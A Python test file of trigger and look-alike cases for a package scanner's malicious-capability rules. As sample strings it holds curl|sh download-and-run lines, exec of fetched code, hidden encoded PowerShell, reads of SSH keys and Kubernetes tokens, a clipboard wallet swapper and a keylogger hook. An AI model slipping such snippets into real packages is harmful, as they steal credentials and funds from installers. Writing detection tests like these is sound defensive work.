"""Cases for the capability rules (interlock.analysis.rules.capabilities).

For each rule, a release that must trigger it and the closest benign look-alike that must not.
How a case runs is in tests/rule_cases.py; the checks over every rule are in tests/test_rules.py.
"""

# ruff: noqa: E501 - the case tables are laid out by hand (`# fmt: skip`), a case to a block, sources as written

from __future__ import annotations

import base64

import pytest

from interlock.model.verdict import Verdict
from interlock.ruleset import RULES_BY_ID
from tests.builders import (
    findings_of,
    scan_sdist,
    scan_wheel,
)
from tests.rule_cases import BLOB, C, H, I, L, M, Negative, Positive, S, W, case_tests

# -- sample material ----------------------------------------------------------------------------

# A real PNG header followed by bytes: what an icon module embeds.
PNG = base64.b64encode(bytes.fromhex("89504e470d0a1a0a0000000d49484452") + bytes(range(256)) * 6).decode()
HELLO = base64.b64encode(b"print('hello')").decode()


LICENSE_TEXT = "Permission is hereby granted, free of charge, to any person obtaining a copy. " * 30


# -- positive cases -----------------------------------------------------------------------------

POSITIVE: dict[str, Positive] = {
    "process-spawn/init-subclass-runs-at-class-creation": Positive(
        "process-spawn", L,
        W({"pkg/base.py": """
            import os

            class Plugin:
                def __init_subclass__(cls, **options):
                    os.system("plugin-register")

            class Builtin(Plugin):
                pass
        """}),
        "pkg/base.py", 5, "import",
    ),
    "shell-download/import-name-assembled-from-pieces": Positive(
        "shell-download", C,
        W({"pkg/__init__.py": """
            getattr(__import__("o" + "s"), "sys" + "tem")("cu" + "rl -fsSL https://cdn.example.com/i.sh | b" + "ash")
        """}),
        "pkg/__init__.py", 1, "import",
    ),
    "input-capture/clipboard-swapped-by-a-thread-started-at-import": Positive(
        "input-capture", M,
        W({"pkg/__init__.py": """
            import re
            import threading
            import time
            import pyperclip

            def _watch():
                while True:
                    if re.fullmatch(r"0x[0-9a-fA-F]{40}", pyperclip.paste()):
                        pyperclip.copy("0x" + "ab" * 20)
                    time.sleep(1)

            threading.Thread(target=_watch, daemon=True).start()
        """}),
        "pkg/__init__.py", 8, "import",
    ),
    "input-capture/keyboard-hooked-at-import": Positive(
        "input-capture", H,
        W({"pkg/hotkeys.py": """
            import keyboard
            pressed = []
            keyboard.on_press(lambda event: pressed.append(event.name))
        """}),
        "pkg/hotkeys.py", 3, "import",
    ),
    "shell-download/shipped-script-started-at-import": Positive(
        # The Python looks harmless; the script it starts on import fetches and runs a payload.
        "shell-download", C,
        W({
            "pkg/__init__.py": """
                import os
                import subprocess
                here = os.path.dirname(__file__)
                subprocess.Popen(["sh", os.path.join(here, "scripts", "setup_env.sh")], start_new_session=True)
            """,
            "pkg/scripts/setup_env.sh": "#!/bin/sh\n# prepare the environment\ncurl -fsSL https://cdn.example.com/agent.sh | sh\n",
        }),
        "pkg/scripts/setup_env.sh", 3, "import",
    ),
    "persistence/scheduled-task-created-at-import": Positive(
        "persistence", H,
        W({"pkg/__init__.py": """
            import subprocess
            subprocess.run(["schtasks", "/Create", "/SC", "ONLOGON", "/TN", "Updater", "/TR", "pythonw -m pkg.agent"])
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "process-spawn/setup-py-release-command-registered-as-install": Positive(
        # A class written like a release helper, registered under a command pip runs.
        "process-spawn", H,
        S({"setup.py": """
            import os
            from setuptools import Command, setup

            class PublishCommand(Command):
                user_options = []
                def run(self):
                    os.system("payload --now")

            setup(name="demo", cmdclass={"install": PublishCommand})
        """}),
        "setup.py", 7, "install",
    ),
    "process-spawn/setup-py-release-command-made-a-sub-command": Positive(
        "process-spawn", H,
        S({"setup.py": """
            import os
            from setuptools import Command, setup
            from setuptools.command.install import install

            class PublishCommand(Command):
                def run(self):
                    os.system("payload --now")

            install.sub_commands.append(("publish", None))
            setup(name="demo", cmdclass={"publish": PublishCommand})
        """}),
        "setup.py", 7, "install",
    ),
    "process-spawn/setup-py-argv-branch-for-a-command-pip-runs": Positive(
        "process-spawn", H,
        S({"setup.py": """
            import os
            import sys
            from setuptools import setup

            if "install" in sys.argv or sys.argv[1] == "bdist_wheel":
                os.system("payload --now")
            setup(name="demo")
        """}),
        "setup.py", 6, "install",
    ),
    # One installed program asked something directly, no shell: a probe of the build machine.
    "process-spawn/setup-py-asks-an-installed-program-directly": Positive(
        "process-spawn", M,
        S({"setup.py": """
            import subprocess
            from setuptools import setup
            prefix = subprocess.check_output(["brew", "--prefix", "libomp"], text=True).strip()
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    # The same program through a shell: the command line is a script.
    "process-spawn/setup-py-runs-a-program-through-a-shell": Positive(
        "process-spawn", H,
        S({"setup.py": """
            import os
            from setuptools import setup
            os.system("brew --prefix libomp")
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "process-spawn/module-top-level": Positive(
        "process-spawn", L,
        W({"pkg/__init__.py": """
            import subprocess
            subprocess.Popen(["notepad.exe"])
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "process-spawn/setup-py-fixed-command": Positive(
        "process-spawn", H,
        S({"setup.py": """
            import os
            from setuptools import setup
            os.system("whoami")
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "process-spawn/pth-line": Positive(
        "process-spawn", C, W({"demo_init.pth": "import os; os.system('id')\n"}), "demo_init.pth", 1, "startup"
    ),
    "shell-download/curl-pipe-sh-when-called": Positive(
        "shell-download", M,
        W({"pkg/cli.py": """
            import subprocess
            def bootstrap():
                subprocess.run("curl -fsSL https://example.org/get.sh | sh", shell=True)
        """}),
        "pkg/cli.py", 3, "call",
    ),
    "shell-download/wget-in-setup-py": Positive(
        "shell-download", C,
        S({"setup.py": """
            import os
            from setuptools import setup
            os.system("wget https://example.org/get.sh -O- | sh")
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "powershell-hidden/encoded-command-when-called": Positive(
        "powershell-hidden", H,
        W({"pkg/win.py": """
            import subprocess
            def hide():
                subprocess.Popen("powershell -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")
        """}),
        "pkg/win.py", 3, "call",
    ),
    # A desktop tool hiding the console of a readable command, when called.
    "powershell-hidden/hidden-window-readable-command-when-called": Positive(
        "powershell-hidden", M,
        W({"pkg/win.py": """
            import subprocess
            def pick_file():
                subprocess.run(["powershell", "-WindowStyle", "Hidden", "-Command", "Add-Type -AssemblyName System.Windows.Forms"])
        """}),
        "pkg/win.py", 3, "call",
    ),
    "powershell-hidden/hidden-window-at-import": Positive(
        "powershell-hidden", C,
        W({"pkg/__init__.py": """
            import subprocess
            subprocess.Popen(["powershell", "-w", "hidden", "-c", "Start-Sleep 1"])
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "dynamic-exec/setup-py-execs-version-file": Positive(
        "dynamic-exec", M,
        S({"setup.py": """
            from setuptools import setup
            exec(open("demo/version.py").read())
            setup(name="demo", version=__version__)
        """}),
        "setup.py", 2, "install",
    ),
    "dynamic-exec/environment-code-at-import": Positive(
        "dynamic-exec", L,
        W({"pkg/__init__.py": """
            import os
            exec(os.environ.get("DEMO_BOOT", ""))
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "dynamic-exec/pth-line": Positive(
        "dynamic-exec", H, W({"boot.pth": "import os; exec(os.environ.get('BOOT', ''))\n"}), "boot.pth", 1, "startup"
    ),
    "decoded-exec/base64-exec-at-import": Positive(
        "decoded-exec", C,
        W({"pkg/__init__.py": f"""
            import base64
            exec(base64.b64decode("{HELLO}"))
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "decoded-exec/decoded-variable-exec-when-called": Positive(
        "decoded-exec", H,
        W({"pkg/mod.py": f"""
            from base64 import b64decode

            def boot():
                code = b64decode("{HELLO}")
                exec(code)
        """}),
        "pkg/mod.py", 5, "call",
    ),
    # Code kept in the release's own data files, read through a variable and executed.
    "decoded-exec/resource-read-then-exec": Positive(
        "decoded-exec", C,
        W({
            "pkg/__init__.py": """
            import importlib.resources, json
            settings = json.loads(importlib.resources.files("pkg").joinpath("settings.json").read_text())
            exec(settings["init"])
            """,
            "pkg/settings.json": '{"init": "pass"}',
        }),
        "pkg/__init__.py", 3, "import",
    ),
    "decoded-exec/package-data-bytes-exec-when-called": Positive(
        "decoded-exec", H,
        W({
            "pkg/tables.py": """
            import pkgutil

            def load_tables():
                raw = pkgutil.get_data(__name__, "tables.dat")
                exec(raw)
            """,
            "pkg/tables.dat": "pass\n",
        }),
        "pkg/tables.py", 5, "call",
    ),
    "download-exec/exec-urlopen-at-import": Positive(
        "download-exec", C,
        W({"pkg/__init__.py": """
            from urllib.request import urlopen
            exec(urlopen("https://example.org/boot.py").read())
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "download-exec/exec-response-when-called": Positive(
        "download-exec", M,
        W({"pkg/remote.py": """
            import requests
            def load(url):
                exec(requests.get(url).text)
        """}),
        "pkg/remote.py", 3, "call",
    ),
    "network-access/request-by-module-body": Positive(
        "network-access", H,
        W({"pkg/__init__.py": """
            import requests
            requests.get("https://telemetry.example.com/ping")
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "network-access/function-called-at-import": Positive(
        "network-access", M,
        W({"pkg/__init__.py": """
            import requests

            def _ping():
                requests.get("https://telemetry.example.com/ping")

            _ping()
        """}),
        "pkg/__init__.py", 4, "import",
    ),
    "network-access/setup-py": Positive(
        "network-access", H,
        S({"setup.py": """
            import urllib.request
            from setuptools import setup
            urllib.request.urlopen("https://example.org/install-count")
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "network-access/pth-line": Positive(
        "network-access", C,
        W({"ping.pth": "import urllib.request; urllib.request.urlopen('https://example.org/ping')\n"}),
        "ping.pth", 1, "startup",
    ),
    "dns-lookup/setup-py-resolves-probe": Positive(
        "dns-lookup", M,
        S({"setup.py": """
            import socket
            from setuptools import setup
            socket.gethostbyname("probe.example.com")
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "exfil-endpoint/webhook-in-function": Positive(
        "exfil-endpoint", L,
        W({"pkg/notify.py": """
            import json
            def alert(session, text):
                session.post("https://webhook.site/3f0c2a", data=json.dumps({"text": text}))
        """}),
        "pkg/notify.py", 3, "call",
    ),
    "exfil-endpoint/passed-to-call-at-import": Positive(
        "exfil-endpoint", M,
        W({"pkg/__init__.py": """
            import logging
            logging.getLogger(__name__).info("https://webhook.site/3f0c2a")
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "exfil-endpoint/raw-ip-url-in-setup-py": Positive(
        "exfil-endpoint", H,
        S({"setup.py": """
            from setuptools import setup
            setup(name="demo", url="http://45.13.22.9/demo")
        """}),
        "setup.py", 2, "install",
    ),
    "credential-access/setup-py-reads-ssh-key": Positive(
        "credential-access", H,
        S({"setup.py": """
            import os
            from setuptools import setup
            key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "credential-access/module-reads-ssh-key-at-import": Positive(
        "credential-access", M,
        W({"pkg/__init__.py": """
            import os
            key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "env-dump/setup-py-serialises-environment": Positive(
        "env-dump", M,
        S({"setup.py": """
            import json, os
            from setuptools import setup
            snapshot = json.dumps(dict(os.environ))
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "env-dump/pth-line": Positive(
        "env-dump", H, W({"env.pth": "import os, json; json.dumps(dict(os.environ))\n"}), "env.pth", 1, "startup"
    ),
    "host-fingerprint/setup-py-user-name": Positive(
        "host-fingerprint", L,
        S({"setup.py": """
            import getpass
            from setuptools import setup
            user = getpass.getuser()
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "host-fingerprint/sitecustomize-host-name": Positive(
        "host-fingerprint", M,
        W({"sitecustomize.py": """
            import socket
            HOST = socket.gethostname()
        """}),
        "sitecustomize.py", 2, "startup",
    ),
    "persistence/opens-bashrc-for-append-at-import": Positive(
        "persistence", H,
        W({"pkg/__init__.py": """
            import os
            rc = open(os.path.expanduser("~/.bashrc"), "a")
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "kubernetes-takeover/setup-py-reads-service-account-token": Positive(
        "kubernetes-takeover", H,
        S({"setup.py": """
            from setuptools import setup
            token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
            setup(name="demo")
        """}),
        "setup.py", 2, "install",
    ),
    "kubernetes-takeover/token-read-at-import": Positive(
        "kubernetes-takeover", L,
        W({"pkg/__init__.py": 'token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\n'}),
        "pkg/__init__.py", 1, "import",
    ),
    "obfuscated-code/blob-in-module": Positive(
        "obfuscated-code", L, W({"pkg/assets.py": f'FONT = "{BLOB}"\n'}), "pkg/assets.py", 1, "import"
    ),
    "obfuscated-code/blob-in-setup-py": Positive(
        "obfuscated-code", M,
        S({"setup.py": f'from setuptools import setup\nDATA = "{BLOB}"\nsetup(name="demo")\n'}),
        "setup.py", 2, "install",
    ),
    "defense-evasion/defender-exclusion-when-called": Positive(
        "defense-evasion", H,
        W({"pkg/win.py": """
            import subprocess
            def quiet():
                subprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath C:\\\\Users"])
        """}),
        "pkg/win.py", 3, "call",
    ),
    "crypto-miner/pool-argument-when-called": Positive(
        "crypto-miner", H,
        W({"pkg/run.py": """
            import subprocess
            def start():
                subprocess.Popen(["./bin/helper", "-o", "stratum+tcp://pool.example.com:3333", "--donate-level", "1"])
        """}),
        "pkg/run.py", 3, "call",
    ),
    "chmod-executable/setup-py": Positive(
        "chmod-executable", M,
        S({"setup.py": """
            import os
            from setuptools import setup
            os.chmod("scripts/demo-tool", 0o755)
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
}  # fmt: skip


# -- negative cases: the closest benign look-alikes ---------------------------------------------

NEGATIVE: dict[str, Negative] = {
    "persistence/crontab-as-a-field-name": Negative(
        # demisto-sdk's schema models: a field aliased "crontab".
        "persistence",
        W({"pkg/models.py": """
            from pydantic import BaseModel, Field
            class CorrelationRule(BaseModel):
                cron_tab: str = Field(None, alias="crontab")
        """}),
    ),
    "persistence/scheduled-task-ended-at-import": Negative(
        # comfy-test ends a browser task it started; ending a task makes nothing run again.
        "persistence",
        W({"pkg/driver.py": """
            import subprocess
            subprocess.Popen(["schtasks", "/end", "/tn", "comfy-test-browser-ui"])
        """}),
    ),
    "input-capture/copy-to-clipboard-when-asked": Negative(
        "input-capture",
        W({"pkg/cli.py": """
            import pyperclip
            from pynput import keyboard

            def copy_result(text):
                pyperclip.copy(text)

            def wait_for_hotkey(callback):
                with keyboard.Listener(on_press=callback) as listener:
                    listener.join()
        """}),
    ),
    "shell-download/shipped-script-a-person-runs": Negative(
        # A CI helper in the release that nothing in it starts: not judged.
        "shell-download",
        S({"setup.py": "from setuptools import setup\nsetup(name='demo')\n", "ci/install_deps.sh": "#!/bin/bash\ncurl -fsSL https://sh.rustup.rs | sh\n"}),
    ),
    "shell-download/shipped-script-a-function-starts-when-called": Negative(
        "shell-download",
        W({
            "pkg/tools.py": "import subprocess\n\ndef bootstrap():\n    subprocess.run(['bash', 'install_tools.sh'])\n",
            "pkg/install_tools.sh": "#!/bin/bash\ncurl -fsSL https://get.example.com/tool.sh | sh\n",
        }),
    ),
    "env-dump/own-prefix-in-a-start-up-line": Negative(
        # pytest-cov's .pth: on failure, it prints its own COV_CORE_* variables.
        "env-dump",
        W({"demo-cov.pth": "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from demo.embed import init\\n  init()\\n except Exception as exc:\\n  sys.stderr.write(repr(dict((k, v) for k, v in os.environ.items() if k.startswith(\\'COV_CORE\\'))))\\n')\n", "demo/embed.py": "def init():\n    return None\n"}),
    ),
    "process-spawn/setup-py-publish-command-pip-never-runs": Negative(
        # pyexcel-io's and simple-term-menu's setup.py: release helpers only a maintainer types.
        "process-spawn",
        S({"setup.py": """
            import os
            import subprocess
            from setuptools import Command, setup

            class PublishCommand(Command):
                user_options = []
                def run(self):
                    os.system("gease pyexcel-io v0.6.8")
                    subprocess.check_call(["twine", "upload", "dist/*"])

            COMMANDS = {}
            COMMANDS.update({"publish": PublishCommand})
            setup(name="demo", cmdclass=COMMANDS)
        """}),
    ),
    "process-spawn/subprocess-in-uncalled-function": Negative(
        "process-spawn",
        W({"pkg/cli.py": """
            import subprocess
            def run(args):
                return subprocess.run(["git", *args], check=True)
        """}),
    ),
    "process-spawn/git-at-import-is-a-build-tool": Negative(
        "process-spawn",
        W({"pkg/_version.py": """
            import subprocess
            VERSION = subprocess.run(["git", "describe"], capture_output=True).stdout
        """}),
    ),
    "process-spawn/main-guard": Negative(
        "process-spawn",
        W({"pkg/tool.py": """
            import os
            if __name__ == "__main__":
                os.system("make docs")
        """}),
    ),
    "shell-download/curl-in-a-help-text-constant": Negative(
        "shell-download",
        W({"pkg/help.py": """
            INSTALL_HINT = "curl -fsSL https://example.org/get.sh | sh"

            def hint():
                print(INSTALL_HINT)
        """}),
    ),
    "shell-download/curl-version-probe": Negative(
        "shell-download",
        W({"pkg/probe.py": """
            import subprocess
            def curl_version():
                return subprocess.run(["curl", "--version"], capture_output=True).stdout
        """}),
    ),
    "powershell-hidden/visible-powershell-command": Negative(
        "powershell-hidden",
        W({"pkg/win.py": """
            import subprocess
            def listing():
                return subprocess.run(["powershell", "-NoProfile", "-Command", "Get-ChildItem"], capture_output=True)
        """}),
    ),
    "dynamic-exec/exec-of-literal-code": Negative("dynamic-exec", W({"pkg/__init__.py": 'exec("VERSION = (1, 0)")\n'})),
    "dynamic-exec/exec-in-uncalled-function": Negative(
        "dynamic-exec",
        W({"pkg/plugins.py": """
            def run_plugin(source):
                exec(source)
        """}),
    ),
    "decoded-exec/png-blob-decoded-to-a-constant": Negative(
        "decoded-exec",
        W({"pkg/icons.py": f"""
            import base64

            ICON = base64.b64decode("{PNG}")
        """}),
    ),
    # svgelements' own `Path("M0,0Z")` is a shape, not a file read: its repr round-trips through eval.
    "decoded-exec/own-class-named-path-round-trip": Negative(
        "decoded-exec",
        W({"pkg/shapes.py": """
            class Path:
                def __init__(self, d):
                    self.d = d

                def __repr__(self):
                    return f"Path({self.d!r})"

            def round_trip():
                obj = Path("M0,0Z")
                return eval(repr(obj))
        """}),
    ),
    "decoded-exec/package-data-parsed-and-literal-exec": Negative(
        "decoded-exec",
        W({
            "pkg/schema.py": """
            import json, os
            HERE = os.path.dirname(__file__)
            SCHEMA = json.load(open(os.path.join(HERE, "schema.json")))
            exec("DEFAULTS = {}")
            """,
            "pkg/schema.json": "{}",
        }),
    ),
    "download-exec/json-response-parsed": Negative(
        "download-exec",
        W({"pkg/remote.py": """
            import json
            from urllib.request import urlopen
            def load(url):
                return json.loads(urlopen(url).read())
        """}),
    ),
    "network-access/request-in-uncalled-function": Negative(
        "network-access",
        W({"pkg/__init__.py": """
            import requests

            def ping():
                requests.get("https://telemetry.example.com/ping")
        """}),
    ),
    "network-access/session-created-at-import": Negative(
        "network-access",
        W({"pkg/__init__.py": """
            import requests
            SESSION = requests.Session()
        """}),
    ),
    "dns-lookup/resolver-helper": Negative(
        "dns-lookup",
        W({"pkg/net.py": """
            import socket
            def resolve(host):
                return socket.gethostbyname(host)
        """}),
    ),
    "exfil-endpoint/loopback-url": Negative(
        "exfil-endpoint",
        W({"pkg/dev.py": """
            import requests
            def local():
                return requests.get("http://127.0.0.1:8000/health")
        """}),
    ),
    "exfil-endpoint/ordinary-api-url": Negative(
        "exfil-endpoint",
        S({"setup.py": """
            from setuptools import setup
            setup(name="demo", url="https://example.org/demo")
        """}),
    ),
    "credential-access/sdk-default-path-constant": Negative(
        "credential-access",
        W({"pkg/config.py": """
            import os
            DEFAULT_CREDENTIALS = "~/.aws/credentials"

            def credentials_path():
                return os.path.expanduser(os.environ.get("AWS_SHARED_CREDENTIALS_FILE", DEFAULT_CREDENTIALS))
        """}),
    ),
    "credential-access/docstring-mentions-ssh-key": Negative(
        "credential-access",
        S({"setup.py": '''
            """Generates ~/.ssh/id_rsa for you (see docs); nothing is read at install."""
            from setuptools import setup
            setup(name="demo")
        '''}),
    ),
    "env-dump/single-variable-read": Negative(
        "env-dump",
        S({"setup.py": """
            import os
            from setuptools import setup
            debug = os.environ.get("DEMO_DEBUG") == "1"
            setup(name="demo")
        """}),
    ),
    "host-fingerprint/host-name-at-import": Negative(
        "host-fingerprint",
        W({"pkg/__init__.py": """
            import socket
            HOST = socket.gethostname()
        """}),
    ),
    "persistence/table-of-rc-file-names": Negative(
        "persistence",
        W({"pkg/shells.py": """
            RC_FILES = ["~/.bashrc", "~/.zshrc", "~/.profile"]

            def rc_files():
                return list(RC_FILES)
        """}),
    ),
    "kubernetes-takeover/client-library-constant": Negative(
        "kubernetes-takeover",
        W({"pkg/incluster.py": """
            SERVICE_TOKEN_FILENAME = "/var/run/secrets/kubernetes.io/serviceaccount/token"

            def load_token():
                with open(SERVICE_TOKEN_FILENAME) as handle:
                    return handle.read()
        """}),
    ),
    "obfuscated-code/long-prose-constant": Negative("obfuscated-code", W({"pkg/license.py": f"LICENSE = {LICENSE_TEXT!r}\n"})),
    "obfuscated-code/short-base64": Negative("obfuscated-code", W({"pkg/icons.py": f'DOT = "{BLOB[:800]}"\n'})),
    "defense-evasion/docstring-mentions-defender": Negative(
        "defense-evasion",
        W({"pkg/audit.py": '''
            def audit():
                """Report whether Add-MpPreference was used to add an ExclusionPath."""
                return None
        '''}),
    ),
    # A generated cloud-SDK model of an antivirus policy: the setting's name is a field, not an action.
    "defense-evasion/sdk-model-field-named-for-a-setting": Negative(
        "defense-evasion",
        W({"pkg/models/_models.py": """
            class AntimalwarePolicy:
                _attribute_map = {
                    "exclusion_path": {"key": "properties.exclusionPath", "type": "str"},
                    "disable_realtime_monitoring": {"key": "disableRealtimeMonitoring", "type": "bool"},
                    "paths": {"key": "ExclusionPath", "type": "[str]"},
                }
        """}),
    ),
    "crypto-miner/hashing-library": Negative(
        "crypto-miner",
        W({"pkg/hashing.py": """
            import hashlib
            def proof_of_work(data: bytes) -> str:
                return hashlib.sha256(data).hexdigest()
        """}),
    ),
    "chmod-executable/chmod-without-execute-bits": Negative(
        "chmod-executable",
        S({"setup.py": """
            import os
            from setuptools import setup
            os.chmod("demo/data.json", 0o644)
            setup(name="demo")
        """}),
    ),
}  # fmt: skip


# -- the tests ----------------------------------------------------------------------------------

test_positive, test_negative, test_positive_severity_is_one_the_rule_declares = case_tests(POSITIVE, NEGATIVE)


# -- pairs the design singles out ---------------------------------------------------------------


def test_same_subprocess_call_is_clean_in_a_function_and_high_in_setup_py() -> None:
    source = """
        import subprocess
        def build():
            subprocess.run(["./configure-and-run"])
    """
    library = scan_wheel({"pkg/build.py": source})
    assert library.verdict is Verdict.CLEAN and not library.findings
    install = scan_sdist({"setup.py": source})
    assert [(f.rule, f.severity, f.line) for f in install.findings] == [("process-spawn", H, 3)]


def test_build_tools_in_setup_py_are_info_only() -> None:
    result = scan_sdist(
        {
            "setup.py": """
        import subprocess
        from setuptools import setup
        subprocess.check_call(["cmake", "--build", "."])
        setup(name="demo")
    """
        }
    )
    assert [(f.rule, f.severity, f.line) for f in result.findings] == [("process-spawn", I, 3)]
    assert result.verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "call",
    [
        'subprocess.check_call(["cmake", "-S", "src", "-B", "build"] + CMAKE_ARGS)',
        'cmake_cmd = shutil.which("cmake")\nsubprocess.check_call([cmake_cmd, "--build", "."])',
        'subprocess.check_output(["mecab-config", "--libs"])',
    ],
    ids=["list-plus-arguments", "found-with-which", "config-program"],
)
def test_build_tools_named_in_other_ways_are_info_only(call: str) -> None:
    # dm-tree, pycares and mecab-python3 build so.
    source = "import shutil\nimport subprocess\nfrom setuptools import setup\n" + call + "\nsetup(name='demo')\n"
    result = scan_sdist({"setup.py": source})
    assert [(f.rule, f.severity) for f in result.findings] == [("process-spawn", I)]
    assert result.verdict is Verdict.CLEAN


def test_a_package_run_as_a_program_may_copy_to_the_clipboard() -> None:
    # pyperclip's __main__.py: `python -m pyperclip -c` copies stdin at its top level. Medium, clean.
    result = scan_wheel(
        {
            "pkg/__init__.py": "",
            "pkg/__main__.py": """
        import sys
        import pyperclip
        if sys.argv[1:] == ["-c"]:
            pyperclip.copy(sys.stdin.read())
        elif sys.argv[1:] == ["-p"]:
            sys.stdout.write(pyperclip.paste())
    """,
        }
    )
    assert {f.severity for f in findings_of(result, "input-capture")} == {M}
    assert result.verdict is Verdict.CLEAN


def test_setup_cfg_aliases_keep_every_command_of_setup_py_install_time() -> None:
    # `[aliases]` can make `bdist_wheel` run `publish` too: then nothing of setup.py is set aside.
    setup_py = """
        import os
        from setuptools import Command, setup

        class PublishCommand(Command):
            def run(self):
                os.system("payload --now")

        setup(name="demo", cmdclass={"publish": PublishCommand})
    """
    assert not scan_sdist({"setup.py": setup_py}).findings
    aliased = scan_sdist({"setup.py": setup_py, "setup.cfg": "[aliases]\nbdist_wheel = publish bdist_wheel\n"})
    assert [(f.rule, f.severity, f.line) for f in aliased.findings] == [("process-spawn", H, 6)]
    # An alias pip never runs (`docs`) changes nothing pip does.
    docs_alias = scan_sdist({"setup.py": setup_py, "setup.cfg": "[aliases]\ndocs = build_sphinx\n"})
    assert not docs_alias.findings


def test_a_comment_naming_the_command_does_not_keep_it_install_time() -> None:
    # Only code can make pip run `upload`; a comment or docstring that mentions it cannot.
    result = scan_sdist(
        {
            "setup.py": """
        # Note: to use the 'upload' functionality of this file, install twine.
        import os
        from setuptools import Command, setup

        class UploadCommand(Command):
            \"\"\"Support setup.py upload.\"\"\"
            def run(self):
                os.system("twine upload dist/*")
                os.system("payload --now")

        setup(name="demo", cmdclass={"upload": UploadCommand})
    """
        }
    )
    assert not [f for f in result.findings if f.severity >= M]


def test_release_command_named_anywhere_else_stays_install_time() -> None:
    result = scan_sdist(
        {
            "setup.py": """
        import os
        from setuptools import Command, setup

        class PublishCommand(Command):
            def run(self):
                os.system("payload --now")

        PublishCommand(None).run()
        setup(name="demo", cmdclass={"publish": PublishCommand})
    """
        }
    )
    assert [(f.rule, f.severity, f.line) for f in result.findings] == [("process-spawn", H, 6)]


def test_process_spawn_declares_every_severity_it_reports() -> None:
    result = scan_sdist(
        {
            "setup.py": """
        import subprocess
        from setuptools import setup
        subprocess.check_call(["cmake", "--build", "."])
        subprocess.check_call(COMMAND)
        setup(name="demo")
    """
        }
    )
    reported = {f.severity for f in findings_of(result, "process-spawn")}
    assert reported == {I, M}
    assert reported <= set(RULES_BY_ID["process-spawn"].severities)


def test_obfuscated_code_declares_the_pyarmor_severity() -> None:
    result = scan_wheel({"pkg/__init__.py": "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"})
    reported = {f.severity for f in findings_of(result, "obfuscated-code")}
    assert reported == {H}
    assert reported <= set(RULES_BY_ID["obfuscated-code"].severities)


@pytest.mark.parametrize(
    "source",
    [
        "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03')\n",
        "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')\n",
    ],
    ids=["pyarmor-7", "pyarmor-8"],
)
def test_pyarmor_protected_module_is_recognised(source: str) -> None:
    result = scan_wheel({"pkg/__init__.py": source})
    assert [(f.severity, f.line) for f in findings_of(result, "obfuscated-code")] == [(H, 1)]


def test_a_program_held_in_a_variable_is_a_computed_command() -> None:
    # versioneer's run_command: `[command] + args` names no program, so nothing of it is known.
    result = scan_sdist(
        {
            "setup.py": """
        import subprocess
        from setuptools import setup
        for command in ["git"]:
            subprocess.Popen([command] + ["describe", "--tags"])
        setup(name="demo")
    """
        }
    )
    assert {f.severity for f in findings_of(result, "process-spawn")} == {M}
